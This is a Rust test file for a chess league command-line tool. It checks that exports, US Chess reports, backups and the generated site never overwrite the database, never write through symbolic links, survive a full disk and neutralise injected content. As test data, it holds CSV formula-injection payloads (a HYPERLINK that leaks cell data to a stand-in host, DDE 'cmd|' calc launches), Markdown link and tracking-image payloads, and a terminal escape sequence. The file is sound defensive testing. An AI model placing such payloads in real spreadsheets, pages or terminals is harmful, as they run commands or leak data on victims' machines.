//! Issue 30 (hardening, round three), the files commands write: exports,
//! the US Chess report and backups never replace the league or a file of
//! another kind, never write through a link, are all or nothing on a full
//! disk, and leave no working files behind; CSV, Markdown and the site
//! never pass on a formula, a live link or a control character.

use std::path::{Path, PathBuf};
use std::process::Command;

use super::{assert_unchanged, bytes, with_suffix};
use crate::util::TestLeague;

const EV: [&str; 4] = ["--event", "Winter Swiss", "--section", "1600+"];

/// Every export that takes `--out`, writing to `out`.
fn exports(out: &str) -> Vec<Vec<String>> {
    let v = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    let mut trf = v(&["export", "trf"]);
    trf.extend(v(&EV));
    let mut standings = v(&["export", "standings"]);
    standings.extend(v(&EV));
    let mut all = vec![
        v(&["export", "json", "--season", "2022-23"]),
        v(&["export", "games", "--season", "2022-23"]),
        trf,
        standings,
    ];
    for a in &mut all {
        a.extend(v(&["--out", out]));
    }
    all
}

fn strs(a: &[String]) -> Vec<&str> {
    a.iter().map(String::as_str).collect()
}

/// A file's names in a folder, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut n: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    n.sort();
    n
}

/// Item 1: `export json --out e.db` replaced the database with JSON (also
/// `export games`, `trf`, `standings`).
#[test]
fn exports_never_replace_the_league_or_a_file_of_another_kind() {
    let t = TestLeague::small();
    t.ok(&["backup", "bk.db"]);
    t.write("league.db.before-v22.bak", "SQLite format 3\0 a copy");
    t.write("notes.txt", "the secretary's notes\n");
    let db = bytes(&t.db);
    let bk = bytes(&t.path("bk.db"));
    for target in [
        "league.db",
        "league.db-wal",
        "league.db-journal",
        "league.db.before-v22.bak",
        "bk.db",
    ] {
        for args in exports(target) {
            let mut args = strs(&args);
            args.push("--force");
            t.fails(&args, "never writes");
            assert_unchanged(&db, &t.db, "the league");
            assert_unchanged(&bk, &t.path("bk.db"), "a backup");
        }
    }
    // The database reached through another name (a hard link).
    std::fs::hard_link(&t.db, t.path("same.db")).unwrap();
    t.fails(
        &["export", "json", "--season", "2022-23", "--out", "same.db"],
        "league database itself",
    );
    // A file of another kind needs --force; its own kind is replaced.
    for args in exports("notes.txt") {
        t.fails(&strs(&args), "add --force");
        assert_unchanged(b"the secretary's notes\n", &t.path("notes.txt"), "notes");
    }
    for args in exports("again.out") {
        t.ok(&strs(&args));
        let first = bytes(&t.path("again.out"));
        t.ok(&strs(&args));
        assert_eq!(bytes(&t.path("again.out")), first);
        std::fs::remove_file(t.path("again.out")).unwrap();
    }
    let mut forced = exports("notes.txt").remove(0);
    forced.push("--force".into());
    t.ok(&strs(&forced));
    assert!(std::fs::read_to_string(t.path("notes.txt"))
        .unwrap()
        .starts_with('{'));
    // The report and backups keep the same rules.
    t.fails(&["backup", "league.db-wal", "--force"], "never writes");
    t.fails(
        &["backup", "league.db.before-v22.bak", "--force"],
        "never writes",
    );
    let ready = crate::prizes::quads();
    crate::reports::ready(&ready);
    std::fs::create_dir(ready.path("report")).unwrap();
    ready.write("report/TDEXPORT.DBF", "not a dBase file");
    let run = ready.fails(&strs(&report_args(&ready)), "add --force");
    assert!(run.stderr.contains("TDEXPORT.DBF"), "{}", run.stderr);
    assert_unchanged(
        b"not a dBase file",
        &ready.path("report/TDEXPORT.DBF"),
        "a file of the secretary's",
    );
    assert_eq!(names(&ready.path("report")), ["TDEXPORT.DBF"]);
    let mut forced = report_args(&ready);
    forced.push("--force".into());
    ready.ok(&strs(&forced));
}

fn report_args(t: &TestLeague) -> Vec<String> {
    [
        "report",
        "uscf",
        "--event",
        "Quads",
        "--out",
        t.path("report").to_str().unwrap(),
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

/// Another database's log, left as `<beside>-wal` (copied while that
/// database is open, so it holds frames SQLite would play into `beside`).
fn plant_stale_wal(t: &TestLeague, beside: &Path) {
    let other = t.path("other.db");
    let conn = rusqlite::Connection::open(&other).unwrap();
    let _: String = conn
        .query_row("PRAGMA journal_mode = WAL", [], |r| r.get(0))
        .unwrap();
    conn.execute_batch(
        "PRAGMA wal_autocheckpoint = 0; CREATE TABLE junk (x); \
         WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 2000) \
         INSERT INTO junk SELECT randomblob(300) FROM n;",
    )
    .unwrap();
    std::fs::copy(with_suffix(&other, "-wal"), with_suffix(beside, "-wal")).unwrap();
}

/// `league --db <db> player list`, which must succeed: its output.
fn opened_by_league(db: &Path) -> String {
    let out = super::league(db, &["player", "list"]).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{}: {err}", db.display());
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Item 3: the copy taken before an upgrade (`<db>.before-v8.bak`) is
/// written by the same code: over an earlier copy with a stale `-wal`, it
/// still reads back whole.
#[test]
fn the_copy_before_an_upgrade_over_a_stale_wal_reads_back_whole() {
    use chess_league::store::migrate;
    let t = TestLeague::new();
    {
        let mut conn = rusqlite::Connection::open(&t.db).expect("create");
        let v8: Vec<_> = migrate::migrations()
            .into_iter()
            .filter(|m| m.version() <= 8)
            .collect();
        migrate::run_migrations(&mut conn, None, &v8).expect("V1-V8");
        conn.execute_batch("INSERT INTO player (name) VALUES ('Alice Smith')")
            .expect("data");
    }
    let copy = t.path("league.db.before-v8.bak");
    std::fs::copy(&t.db, &copy).unwrap();
    plant_stale_wal(&t, &copy);
    t.ok(&["player", "list"]);
    assert!(
        !with_suffix(&copy, "-wal").exists(),
        "the stale -wal is still there"
    );
    // Opened as league opens a database (in WAL mode, where a -wal is read).
    let listed = opened_by_league(&copy);
    assert!(listed.contains("Alice Smith"), "{listed}");
    let conn = rusqlite::Connection::open(&copy).unwrap();
    let check = conn.query_row("PRAGMA integrity_check", [], |r| r.get::<_, String>(0));
    assert_eq!(check.as_deref(), Ok("ok"));
    let name: String = conn
        .query_row("SELECT name FROM player", [], |r| r.get(0))
        .unwrap();
    assert_eq!(name, "Alice Smith");
}

/// Item 3: `backup DEST --force` over a file with a stale `-wal` said
/// "Backed up" and wrote a copy that opened as "malformed".
#[test]
fn a_backup_over_a_file_with_a_stale_wal_reads_back_whole() {
    let t = TestLeague::small();
    t.ok(&["backup", "bk.db"]);
    plant_stale_wal(&t, &t.path("bk.db"));
    let said = t.ok(&["backup", "bk.db", "--force"]);
    assert!(said.starts_with("Backed up"), "{said}");
    // Opened as league opens a database (in WAL mode, where a -wal is read).
    let listed = opened_by_league(&t.path("bk.db"));
    assert!(listed.contains("Hal Brook"), "{listed}");
    let copy = rusqlite::Connection::open(t.path("bk.db")).unwrap();
    let check = copy.query_row("PRAGMA integrity_check", [], |r| r.get::<_, String>(0));
    assert_eq!(check.as_deref(), Ok("ok"));
    assert!(!t.path("bk.db-wal").exists());
    let players: i64 = copy
        .query_row("SELECT count(*) FROM player", [], |r| r.get(0))
        .unwrap();
    assert_eq!(players, 8);
    drop(copy);
    // And it restores.
    let fresh = TestLeague::new();
    let said = fresh.ok(&["restore", t.path("bk.db").to_str().unwrap()]);
    assert!(said.contains("8 players"), "{said}");
}

/// A small tmpfs mounted on a new folder: a real disk that can be filled.
/// Unmounted when dropped. `None` (with the reason printed) where the
/// system does not let the tests mount one (not root, no CAP_SYS_ADMIN).
struct SmallDisk {
    dir: tempfile::TempDir,
}

impl SmallDisk {
    fn mount(test: &str) -> Option<SmallDisk> {
        let dir = tempfile::tempdir().expect("temp dir");
        let out = Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=256k", "tmpfs"])
            .arg(dir.path())
            .output();
        match out {
            Ok(o) if o.status.success() => Some(SmallDisk { dir }),
            Ok(o) => {
                eprintln!(
                    "{test}: skipped: cannot mount a small tmpfs to fill here ({})",
                    String::from_utf8_lossy(&o.stderr).trim()
                );
                None
            }
            Err(e) => {
                eprintln!("{test}: skipped: cannot run mount ({e})");
                None
            }
        }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// Fill the disk to the last byte; returns the filler to remove later.
    fn fill(&self) -> PathBuf {
        use std::io::Write;
        let filler = self.path("filler");
        let mut f = std::fs::File::create(&filler).expect("filler");
        let block = vec![0u8; 4096];
        while f.write_all(&block).is_ok() {}
        while f.write_all(&[0]).is_ok() {}
        filler
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(self.dir.path()).output();
    }
}

/// Every file under `dir` with its bytes.
fn contents(dir: &Path) -> Vec<(String, Vec<u8>)> {
    names(dir)
        .into_iter()
        .map(|n| {
            let b = bytes(&dir.join(&n));
            (n, b)
        })
        .collect()
}

/// Item 4: `report uscf` on a full disk replaced two of the three files,
/// truncated the third and destroyed the previous report.
#[test]
fn report_uscf_on_a_full_disk_keeps_the_previous_report_whole() {
    let Some(disk) = SmallDisk::mount("report_uscf_on_a_full_disk") else {
        return;
    };
    let t = crate::prizes::quads();
    crate::reports::ready(&t);
    let report = disk.path("report");
    let args = [
        "report",
        "uscf",
        "--event",
        "Quads",
        "--out",
        report.to_str().unwrap(),
    ];
    t.ok(&args);
    let before = contents(&report);
    assert_eq!(before.len(), 3);
    // A different report, so a replaced file would show.
    t.ok(&["event", "edit", "--event", "Quads", "--city", "Springfield"]);
    let filler = disk.fill();
    let r = t.run(&args);
    assert!(!r.ok, "should fail on a full disk:\n{}", r.stdout);
    assert!(
        r.stderr.contains("is full")
            && r.stderr.contains("the US Chess report was not written")
            && r.stderr.contains("as it was"),
        "{}",
        r.stderr
    );
    assert_eq!(contents(&report), before, "the earlier report");
    // With space again: the new report, and nothing of the work left.
    std::fs::remove_file(filler).unwrap();
    t.ok(&args);
    let after = contents(&report);
    assert_eq!(after.len(), 3);
    assert_ne!(after, before);
}

/// `league site` on a full disk: the secretary's words (the site there
/// before is as it was, free some space and run the command again), never
/// the system's "No space left on device (os error 28)"; the earlier site
/// stays whole, and with space again the site is written.
#[test]
fn the_site_on_a_full_disk_keeps_the_earlier_site_and_says_so() {
    let Some(disk) = SmallDisk::mount("the_site_on_a_full_disk") else {
        return;
    };
    let t = crate::prizes::quads();
    crate::reports::ready(&t);
    let site = disk.path("site");
    let args = ["site", "--out", site.to_str().unwrap()];
    t.ok(&args);
    let before = std::fs::read(site.join("index.html")).unwrap();
    t.ok(&["settings", "set", "league-name", "The Quads Club"]);
    let filler = disk.fill();
    let r = t.run(&args);
    assert!(!r.ok, "should fail on a full disk:\n{}", r.stdout);
    assert!(
        r.stderr.contains(&format!(
            "the disk holding {} is full, so the site was not written; the site there before is as it was. Free some space and run the command again",
            site.display()
        )),
        "{}",
        r.stderr
    );
    assert!(!r.stderr.contains("os error"), "{}", r.stderr);
    assert_eq!(std::fs::read(site.join("index.html")).unwrap(), before);
    std::fs::remove_file(filler).unwrap();
    t.ok(&args);
}

/// Item 20: an export to a full disk left a 0-byte file (and item 4: the
/// earlier export was lost).
#[test]
fn an_export_to_a_full_disk_leaves_the_earlier_file_and_nothing_else() {
    let Some(disk) = SmallDisk::mount("an_export_to_a_full_disk") else {
        return;
    };
    let t = TestLeague::small();
    let out = disk.path("e.json");
    let args = [
        "export",
        "json",
        "--season",
        "2022-23",
        "--out",
        out.to_str().unwrap(),
    ];
    let filler = disk.fill();
    // Nothing there before: nothing there after.
    let r = t.run(&args);
    assert!(!r.ok);
    assert!(
        r.stderr.contains("e.json") && r.stderr.contains("is full"),
        "{}",
        r.stderr
    );
    assert!(!out.exists(), "a 0-byte file was left");
    assert_eq!(names(disk.dir.path()), ["filler"]);
    // An earlier export stays whole.
    std::fs::remove_file(&filler).unwrap();
    t.ok(&args);
    let earlier = bytes(&out);
    t.ok(&["player", "add", "Zed Newcomer"]);
    t.ok(&[
        "enter",
        "Zed",
        "--event",
        "Winter Swiss",
        "--section",
        "U1600",
    ]);
    disk.fill();
    assert!(!t.run(&args).ok);
    assert_unchanged(&earlier, &out, "the earlier export");
    assert_eq!(names(disk.dir.path()), ["e.json", "filler"]);
}

/// The process id of a process that has ended.
fn dead_pid() -> u32 {
    let mut c = Command::new("true").spawn().expect("true");
    let pid = c.id();
    c.wait().expect("wait");
    pid
}

/// Item 20: killed restores left `.before-restore.bak.partial-PID` files
/// the size of the database, and killed backups `.partial-PID` files,
/// never cleaned up. The next run removes those whose process is gone,
/// and leaves a running one's alone.
#[test]
fn working_copies_of_killed_backups_and_restores_are_removed_by_the_next_run() {
    let t = TestLeague::small();
    t.ok(&["backup", "bk.db"]);
    let dead = dead_pid();
    let live = std::process::id();
    let db = bytes(&t.db);
    let planted: Vec<PathBuf> = [
        format!("league.db.before-restore.bak.partial-{dead}"),
        format!("league.db.before-restore.bak.partial-{dead}-journal"),
        format!("old-backup.db.partial-{dead}"),
    ]
    .iter()
    .map(|n| t.write(n, &db))
    .collect();
    let running = t.write(&format!("league.db.before-restore.bak.partial-{live}"), &db);
    t.ok(&["restore", "bk.db"]);
    assert!(!planted[0].exists() && !planted[1].exists());
    assert!(running.exists(), "a running process's file was removed");
    t.ok(&["backup", "new-backup.db"]);
    assert!(!planted[2].exists());
    assert!(running.exists());
    let left: Vec<String> = names(t.dir.path())
        .into_iter()
        .filter(|n| n.contains(".partial-") && !n.ends_with(&live.to_string()))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

/// Item 8: `report uscf --out DIR` followed a symbolic link planted in DIR
/// and overwrote the file it pointed to; an export's --out likewise.
#[test]
fn reports_and_exports_never_write_through_a_link() {
    let t = crate::prizes::quads();
    crate::reports::ready(&t);
    t.write("precious.dbf", "precious");
    std::fs::create_dir(t.path("report")).unwrap();
    std::os::unix::fs::symlink(t.path("precious.dbf"), t.path("report/TSEXPORT.DBF")).unwrap();
    let mut args = report_args(&t);
    args.push("--force".into());
    let run = t.fails(&strs(&args), "symbolic link");
    assert!(run.stderr.contains("TSEXPORT.DBF"), "{}", run.stderr);
    assert_unchanged(b"precious", &t.path("precious.dbf"), "the linked file");
    assert_eq!(names(&t.path("report")), ["TSEXPORT.DBF"]);
    // An export and a backup whose --out is a link.
    std::os::unix::fs::symlink(t.path("precious.dbf"), t.path("e.json")).unwrap();
    t.fails(
        &[
            "export", "json", "--event", "Quads", "--out", "e.json", "--force",
        ],
        "symbolic link",
    );
    t.fails(&["backup", "e.json", "--force"], "symbolic link");
    assert_unchanged(b"precious", &t.path("precious.dbf"), "the linked file");
    // Without the link, the report is written.
    std::fs::remove_file(t.path("report/TSEXPORT.DBF")).unwrap();
    t.ok(&strs(&args));
    assert_eq!(
        names(&t.path("report")),
        ["TDEXPORT.DBF", "THEXPORT.DBF", "TSEXPORT.DBF"]
    );
}

/// The formula payloads of issue 16, as players' names.
const PAYLOADS: [&str; 4] = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "@SUM(1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
];

/// The small league with four 1600+ players named with the payloads.
fn formula_league() -> TestLeague {
    let t = TestLeague::small();
    let conn = t.conn();
    for (old, new) in ["Alice Smith", "Bob Jones", "Carol King", "Dan Wu"]
        .iter()
        .zip(PAYLOADS)
    {
        conn.execute("UPDATE player SET name = ?1 WHERE name = ?2", [new, old])
            .unwrap();
    }
    t
}

fn cells(csv: &str) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .comment(Some(b'#'))
        .from_reader(csv.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// Item 15: `round sheet --format csv` and `round pair --format csv` wrote
/// names beginning with `=`, `@`, `+`, `-` as they were.
#[test]
fn round_sheet_and_pair_csv_never_start_a_cell_with_a_formula() {
    let t = formula_league();
    let with = |head: &[&str], tail: &[&str]| -> Vec<String> {
        head.iter()
            .chain(EV.iter())
            .chain(tail.iter())
            .map(|s| s.to_string())
            .collect()
    };
    let runs = [
        with(&["round", "pair"], &["--dry-run", "--format", "csv"]),
        with(&["round", "pair"], &["--format", "csv"]),
        with(&["round", "sheet"], &["--format", "csv"]),
    ];
    for args in &runs {
        let csv = t.ok(&strs(args));
        let cells = cells(&csv);
        for payload in PAYLOADS {
            assert!(
                cells.iter().any(|c| *c == format!("'{payload}")),
                "{args:?}: no '{payload} in\n{csv}"
            );
        }
        for c in &cells {
            let risky = c.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(!risky, "{args:?}: cell {c:?} would run in a spreadsheet");
        }
    }
    // --raw: as stored, the existing rule for every CSV.
    let mut raw = runs[2].clone();
    raw.push("--raw".into());
    let csv = t.ok(&strs(&raw));
    assert!(cells(&csv).iter().any(|c| c == "@SUM(1)"), "{csv}");
    // The sheet still reads back: `round record` takes it as written.
    t.write("r1.csv", t.ok(&strs(&runs[2])));
    let record = with(&["round", "record"], &["--round", "1", "r1.csv"]);
    t.ok(&strs(&record));
}

/// Item 16: Markdown output left links, images and emphasis live.
#[test]
fn markdown_output_leaves_no_link_image_or_emphasis_live() {
    let t = TestLeague::small();
    let name = "[Click](http://evil) ![](http://evil/track.png) **X** _y_ `z`";
    t.conn()
        .execute(
            "UPDATE player SET name = ?1 WHERE name = 'Alice Smith'",
            [name],
        )
        .unwrap();
    let escaped = "\\[Click\\]\\(http://evil\\) \\!\\[\\]\\(http://evil/track.png\\) \\*\\*X\\*\\* \\_y\\_ \\`z\\`";
    let mut pair: Vec<&str> = vec!["round", "pair"];
    pair.extend(EV);
    pair.extend(["--dry-run", "--format", "markdown"]);
    let mut standings: Vec<&str> = vec!["standings"];
    standings.extend(EV);
    standings.extend(["--format", "markdown"]);
    for args in [
        vec!["player", "list", "--format", "markdown"],
        standings,
        vec!["sql", "SELECT name FROM player", "--format", "markdown"],
        pair,
    ] {
        let out = t.ok(&args);
        assert!(out.contains(escaped), "{args:?}:\n{out}");
        assert!(!out.contains("[Click]("), "{args:?}:\n{out}");
        assert!(!out.contains("**X**"), "{args:?}:\n{out}");
    }
}

/// Item 17: control characters in old data were escaped on the terminal
/// but written raw into the site's pages.
#[test]
fn site_pages_show_control_characters_as_visible_escapes() {
    let t = TestLeague::small();
    t.conn()
        .execute(
            "UPDATE player SET name = 'Alice' || char(27) || ']52;c;SGVsbG8=' || char(7) || char(27) || '[2J' WHERE name = 'Alice Smith'",
            [],
        )
        .unwrap();
    t.ok(&["site", "--out", "site"]);
    let mut pages = 0;
    let mut shown = 0;
    let mut stack = vec![t.path("site")];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
                continue;
            }
            let text = std::fs::read_to_string(&p).unwrap();
            pages += 1;
            assert!(
                !text
                    .chars()
                    .any(|c| c.is_control() && !"\n\t\r".contains(c)),
                "{} holds a raw control character",
                p.display()
            );
            if text.contains("Alice\\u{1b}]52;c;SGVsbG8=\\u{7}\\u{1b}[2J") {
                shown += 1;
            }
        }
    }
    assert!(pages > 5, "{pages} files");
    assert!(shown >= 3, "the name is shown escaped on {shown} pages");
}
